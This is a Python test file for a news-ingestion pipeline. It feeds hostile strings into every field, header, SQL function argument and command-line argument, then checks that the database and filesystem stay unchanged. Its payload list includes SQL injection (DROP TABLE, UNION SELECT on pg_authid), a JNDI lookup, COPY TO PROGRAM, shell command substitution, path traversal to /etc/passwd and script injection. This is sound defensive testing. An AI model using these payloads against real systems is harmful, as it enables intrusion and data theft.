"""Hostile strings in every field of every form of input, in headers and keys, in every argument of the SQL functions and of the commands that
take ids, URLs and names: rows hold what the pure pipeline prints of the same bytes, or the record has its reason; nothing else changes."""

import concurrent.futures
import hashlib
import json
import os

import psycopg2
import pytest

import articles
import tables
from articles import HTML, JSON, TEXT, record
from services import Record

MARK = "/tmp/newsmill-hostile-mark"
LONG = hashlib.shake_256(b"long").hexdigest(32768)

HOSTILE = {
    "quote": "O'Brien \"said\" `it`",
    "drop": "'; DROP TABLE article CASCADE; --",
    "drop, escaped": "\\'; DROP TABLE article CASCADE; --",
    "drop, double": "\"); DELETE FROM article; --",
    "dollar": "$$; DROP SCHEMA public CASCADE; $$ $1 $2",
    "union": "x' UNION SELECT rolpassword FROM pg_authid --",
    "formats": "%s%s%s%n%n %1$n %*.*f %x%p",
    "templates": "{{7*7}} ${jndi:ldap://x.example/a} #{1} <%= 2 %> ${IFS}",
    "copy": f"\\copy article TO '{MARK}'",
    "program": f"COPY article TO PROGRAM 'touch {MARK}'",
    "shell": f"$(touch {MARK}) `touch {MARK}` | touch {MARK}; touch {MARK}",
    "copy ends": "\\. \\N \\x41 \\\\",
    "array": "{\"a\",NULL,'b'}",
    "null": "NULL",
    "number": "9" * 400,
    "path": "../../../../etc/passwd",
    "script": "<script>alert(1)</script>]]>--><!--",
    "right to left": "\u202egnp.exe \u2066x\u2069 \u200b\ufeff",
    "lines": "a\r\nb\tc\u2028d",
    "long": LONG,
    "NUL": "before\x00after",
    "surrogate": "half \ud83d half \udc00 end",
}
PLAIN = ("quote", "drop", "drop, escaped", "drop, double", "dollar", "union", "formats", "templates", "copy", "program", "copy ends", "array", "null")

FIELDS = ("id", "source", "title", "text", "html", "authors", "url", "language", "published_at", "modified_at", "status", "note")
PAGES = {
    "title": "<title>{}</title>", "og:title": '<meta property="og:title" content="{}">', "og:site_name": '<meta property="og:site_name" content="{}">',
    "canonical": '<link rel="canonical" href="{}">', "og:url": '<meta property="og:url" content="{}">', "author": '<meta name="author" content="{}">',
    "published": '<meta property="article:published_time" content="{}">', "modified": '<meta property="article:modified_time" content="{}">',
    "charset": '<meta charset="{}">', "type": '<meta property="og:type" content="{}">', "comment": "<!-- {} -->", "style": "<style>{}</style>"}


def attribute(s):
    """As a page writes it; what no page can hold is replaced."""
    s = s.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
    return s.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def bodies():
    """(what it shows, content type, bytes, field, string): every string in every field of envelopes, pages, their JSON-LD, and texts."""
    made = []
    for name, s in HOSTILE.items():
        for field in FIELDS:
            n = len(made)
            title, text = articles.story_of(f"hostile {n}", 2)
            fields = {"id": f"h{n}", "source": "outlet.example", "title": title, "text": text}
            fields[field] = [s, s] if field == "authors" else f"{text} {s} {text}" if field == "text" else s
            if field == "html":
                del fields["text"]
                fields["html"] = f"<p>{text}</p><p>{s}</p><p>{text}</p>"
            made.append((f"{name} as {field}", JSON, json.dumps(fields).encode(), field, s))
        made.append((f"{name} as a name of a field", JSON, json.dumps({s: s, "id": f"h{len(made)}", "text": articles.text_of(f"hostile {len(made)}", 2)}).encode(),
                     "name", s))
        made.append((f"{name} in place of an envelope", JSON, json.dumps(s).encode(), None, s))
        for where, head in PAGES.items():
            text = articles.text_of(f"hostile {len(made)}", 2)
            page = f"<html><head>{head.format(attribute(s))}</head><body><article><p>{text}</p></article></body></html>"
            made.append((f"{name} as {where} of a page", HTML, page.encode(), None, s))
        for member in ("headline", "author", "datePublished", "url", "@type", "publisher"):
            text = articles.text_of(f"hostile {len(made)}", 2)
            ld = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle", "headline": "A headline", member: s})
            page = f'<html><head><script type="application/ld+json">{ld}</script></head><body><article><p>{text}</p></article></body></html>'
            made.append((f"{name} as {member} of JSON-LD", HTML, page.encode(), None, s))
        text = articles.text_of(f"hostile {len(made)}", 2)
        raw = s.encode("utf-8", "surrogatepass")
        made.append((f"{name} in a text", TEXT, text.encode() + b"\n\n" + raw + b"\n\n" + text[::-1].encode(), None, s))
        made.append((f"{name} first in a text", TEXT, raw + b"\n" + text.encode(), None, s))
    return made


def printed(deployment, tmp_path, made):
    """What `process` says of each: the same code without any database."""
    manifest = []
    for i, (_, kind, value, _, _) in enumerate(made):
        (tmp_path / f"{i}").write_bytes(value)
        manifest.append(json.dumps({"file": str(tmp_path / str(i)), "content_type": kind}))
    (tmp_path / "manifest").write_text("\n".join(manifest) + "\n")
    done = deployment.run("process", "--manifest", tmp_path / "manifest", check=False, seconds=120)
    assert done.returncode in (0, 3), done.stderr
    lines = [json.loads(line) for line in done.stdout.split("\n") if line]  # U+2028 is no end of a line here
    assert len(lines) == len(made)
    return lines


def world(connection, without):
    """All that is in the database but this deployment's rows: what exists, who may what, and the rows of the others."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT n.nspname, c.relname, c.relkind, c.relacl::text FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
                       "WHERE n.nspname !~ '^pg_(toast|temp)' ORDER BY 1, 2")
        things = cursor.fetchall()
        for sql in ("SELECT oid, proname, md5(prosrc), proacl::text FROM pg_proc ORDER BY 1", "SELECT rolname, rolsuper, rolcanlogin FROM pg_roles ORDER BY 1",
                    "SELECT nspname FROM pg_namespace WHERE nspname !~ '^pg_(toast|temp)' ORDER BY 1", "SELECT * FROM pg_db_role_setting ORDER BY 1, 2",
                    "SELECT relname, attname, atttypid FROM pg_attribute JOIN pg_class ON pg_class.oid = attrelid WHERE attnum > 0 ORDER BY 1, 2, 3"):
            cursor.execute(sql)
            things.append(cursor.fetchall())
        for schema, name, kind, _ in [t for t in things if isinstance(t, tuple)]:
            if kind == "r" and schema not in (without, "pg_catalog", "information_schema"):
                cursor.execute(f'SELECT md5(string_agg(t::text, chr(10) ORDER BY t::text)) FROM "{schema}"."{name}" t')
                things.append((schema, name, cursor.fetchall()))
    return things


@pytest.fixture(scope="module")
def bystander(services):
    """A deployment beside, at rest: whatever reaches over would change it."""
    deployment = services.deployment()
    deployment.produce([record(articles.article(i)) for i in range(3)])
    worker = deployment.worker()
    articles.rest(deployment)
    assert worker.stop() == 0
    yield deployment
    deployment.close()


@pytest.fixture(scope="module")
def filled(services, bystander, tmp_path_factory):
    """All of it went in: (deployment, made, places, printed)."""
    if os.path.exists(MARK):
        os.unlink(MARK)
    deployment = services.deployment()
    made = bodies()
    before = world(deployment.connect(admin=True), deployment.id)
    worker = deployment.worker()
    places = deployment.produce([record(value, kind) for _, kind, value, _, _ in made])
    articles.rest(deployment, 120)
    after = world(deployment.connect(admin=True), deployment.id)
    assert after == before
    assert worker.alive() and worker.stop() == 0
    yield deployment, made, places, printed(deployment, tmp_path_factory.mktemp("hostile"), made)
    assert not os.path.exists(MARK)
    deployment.close()


def test_rows_hold_what_the_pure_stages_print(filled):
    deployment, made, places, lines = filled
    connection = deployment.connect()
    stored = {s.place[1:]: s for s in tables.read_articles(connection)}
    connection.close()
    rejected = {(p, o): reason for p, o, reason in deployment.rows("SELECT partition, record_offset, reason FROM rejected_record")}
    wrong = []
    for (what, _, value, _, _), place, line in zip(made, places, lines):
        if "rejected" in line:
            if rejected.get(place) != line["rejected"]["reason"]:
                wrong.append(f"{what}: {rejected.get(place)}, {line['rejected']}")
        elif place not in stored:
            wrong.append(f"{what}: no row; {rejected.get(place)}")
        else:
            wrong += [f"{what}: {d}" for d in tables.differences(stored[place].v1, line)]
            wrong += [] if stored[place].value == value else [f"{what}: its bytes are not those that came"]
    assert not wrong, f"{len(wrong)}: " + "\n".join(wrong[:30])
    assert len(stored) + len(rejected) == len(made) > 700
    print(f"FIGURE hostile strings: {len(HOSTILE)} in {len(made)} records: {len(stored)} rows, {len(rejected)} rejected ({sorted(set(rejected.values()))})")


def test_plain_ones_are_literal(filled):
    """Where nothing is to be normalized the row has the string itself: neither escaped nor cut."""
    deployment, made, places, _ = filled
    for (what, _, _, field, s), (partition, offset) in zip(made, places):
        if field in ("id", "title", "note", "name") and s in [HOSTILE[n] for n in PLAIN]:
            (external, title, extra), = deployment.rows("SELECT external_id, title, envelope FROM article WHERE (partition, record_offset) = (%s, %s)",
                                                        partition, offset)
            got = {"id": external, "title": title, "note": (extra or {}).get("note"), "name": (extra or {}).get(s)}[field]
            assert got == s, what


def test_keys_and_headers(filled):
    """Of a record that is refused they are kept; of an article they change nothing."""
    deployment, _, _, _ = filled
    worker = deployment.worker()
    records, wants = [], []
    for i, (name, s) in enumerate(HOSTILE.items()):
        raw = s.encode("utf-8", "surrogatepass")
        header_name = s.replace("\x00", "").encode("utf-8", "replace").decode()[:1000]
        records.append(Record(b"{", raw, {"content-type": JSON, header_name: raw, "traceparent": raw}))
        records.append(Record(articles.article(5000 + i), raw, {header_name: raw, "traceparent": raw, "ce_id": raw}))
        records.append(Record(articles.article(6000 + i), raw, {"content-type": raw}))
        wants.append((name, raw))
    places = deployment.produce(records)
    articles.rest(deployment)
    assert worker.stop() == 0
    refused = {(p, o): (reason, bytes(key)) for p, o, reason, key in deployment.rows("SELECT partition, record_offset, reason, key FROM rejected_record "
                                                                                    "WHERE key IS NOT NULL")}
    ids = {e for (e,) in deployment.rows("SELECT external_id FROM article")}
    for i, (name, raw) in enumerate(wants):
        assert refused.pop(places[3 * i]) == ("invalid_json", raw), name
        assert f"n{5000 + i}" in ids, name
        assert f"n{6000 + i}" in ids or refused[places[3 * i + 2]][0], name


# ---- arguments ----------------------------------------------------------------------------------------------------

FUNCTIONS = ("article_search(%s)", "article_search('x', source => %s)", "article_search('x', entity => %s)", "article_search('x', since => %s)",
             "article_search('x', until => %s)", "article_search('x', in_language => %s)", "article_search('x', max_rows => %s)",
             "why_grouped(%s, 1)", "why_grouped(1, %s)", "why_not_grouped(%s, 1)", "why_not_grouped(1, %s)", "search_config(%s)",
             "search_words(%s, 'a', 'b')", "search_words('en', %s, 'b')", "search_words('en', 'a', %s)", "quote_words(%s)", "gkg_words(%s)",
             "quote_other_name(%s, 'a')", "quote_other_name('a', %s)", "quote_relation(%s, 1, '{1}', 'b', 2, '{2}')",
             "quote_relation('a', %s, '{1}', 'b', 2, '{2}')", "quote_relation('a', 1, %s, 'b', 2, '{2}')", "quote_relation('a', 1, '{1}', 'b', 2, %s)")


def rows_of(deployment):
    """A digest of every table of the deployment."""
    found = {}
    for (name,) in deployment.rows("SELECT relname FROM pg_class WHERE relnamespace = %s::regnamespace AND relkind = 'r'", deployment.id):
        found[name] = deployment.value(f"SELECT md5(string_agg(t::text, chr(10) ORDER BY t::text)) FROM {name} t")
    return found


def test_every_function_of_the_schema_is_tried(filled):
    deployment = filled[0]
    named = {f.split("(")[0] for f in FUNCTIONS}
    assert {n for (n,) in deployment.rows("SELECT proname FROM pg_proc WHERE pronamespace = %s::regnamespace AND pronargs > 0", deployment.id)} == named


def test_arguments_of_the_functions(filled, bystander):
    """By parameters, as an application gives them: an answer, or an error of the data."""
    deployment = filled[0]
    before, rows = world(deployment.connect(admin=True), deployment.id), rows_of(deployment)
    tried = answered = 0
    connection = deployment.connect()  # `with` would make it one transaction
    with connection.cursor() as cursor:
        for call in FUNCTIONS:
            for s in HOSTILE.values():
                s, tried = s.replace("\x00", "\\0").encode("utf-8", "replace").decode(), tried + 1
                try:
                    cursor.execute(f"SELECT * FROM {call}", (s,))
                    answered += 1
                    assert len(cursor.fetchall()) <= 20
                except (psycopg2.DataError, psycopg2.ProgrammingError, psycopg2.OperationalError) as e:
                    assert e.pgcode[:2] in ("22", "54"), (call, s[:80], e)
    connection.close()
    assert answered > tried / 3
    assert (world(deployment.connect(admin=True), deployment.id), rows_of(deployment)) == (before, rows)


def commands(s):
    """Every command that takes an id, a URL, a name, a time or a place; of those that erase, ids that nobody has."""
    none = s + " nobody's"
    return [["explain", s, s], ["explain", "--json", none, "1"], ["explain", "1", none], ["forget", none, "--wait", "1"],
            ["forget", "https://nobody.example/" + s, "--wait", "1"], ["furniture", "list", "--source", s], ["furniture", "list", "--epoch", s],
            ["furniture", "export", "--source", s], ["furniture", "learn", "--dry-run", "--source", s], ["furniture", "import", s],
            ["reprocess", "--dry-run", "--source", none], ["reprocess", "--dry-run", "--since", s], ["reprocess", "--dry-run", "--version-below", s],
            ["replay", "--dry-run", "--reason", s], ["replay", "--dry-run", "--since", s], ["replay", "--dry-run", "--limit", s],
            ["offsets", "--set", s, "--accept-loss"], ["offsets", "--set", f"{s}:0=earliest", "--accept-loss"], ["prune", "--dry-run", "--raw-days", s],
            ["process", "--url", s, "--published-at", s, "--content-type", s, "/dev/null"], ["process", s], ["cluster", "--manifest", s], ["feed", s],
            ["feed", "--topic", s, "/dev/null"], ["migrate", "--id", s], ["status", "--id", s], ["check-config", "--input-topics", s],
            ["health", "--http-addr", s], ["tail", "--from", s, "--until-end"], ["run", "-X", s], ["topics", "--id", s], [s], ["status", s], ["snapshot", s]]


SOME = ("drop, escaped", "drop, double", "formats", "shell", "copy ends", "number", "right to left", "lines")


def test_arguments_of_the_commands(filled, bystander):
    """Each ends by itself, with one of its exit codes, and has changed nothing."""
    deployment = filled[0]
    before, rows = world(deployment.connect(admin=True), deployment.id), rows_of(deployment)
    codes = {}
    given = [args for name in SOME for args in commands(HOSTILE[name])]
    with concurrent.futures.ThreadPoolExecutor(4) as pool:  # most of them wait for a server
        for args, done in zip(given, pool.map(lambda args: deployment.run(*args, check=False, seconds=60), given)):
            assert done.returncode in (0, 1, 2, 3), (args, done.returncode, done.stderr[-500:])
            assert done.stderr or done.stdout or done.returncode == 0, args
            assert "syntax error" not in done.stderr and "unterminated" not in done.stderr, (args, done.stderr)
            codes.setdefault(done.returncode, []).append(args[0])
    print("FIGURE hostile arguments:", len(given), {c: len(n) for c, n in codes.items()})
    assert (world(deployment.connect(admin=True), deployment.id), rows_of(deployment)) == (before, rows)
    assert not os.path.exists(MARK)


def test_names_and_lines_of_furniture_are_literal(filled):
    """The one command that writes what it is given."""
    deployment = filled[0]
    for name in SOME[:3]:
        s = HOSTILE[name]
        deployment.run("furniture", "add", s, s)
    got = set(deployment.rows("SELECT source, line FROM furniture_line WHERE epoch = (SELECT max(epoch) FROM furniture_line)"))
    assert got == {(HOSTILE[n], HOSTILE[n]) for n in SOME[:3]}
    for name in SOME[:3]:
        deployment.run("furniture", "remove", HOSTILE[name], HOSTILE[name])
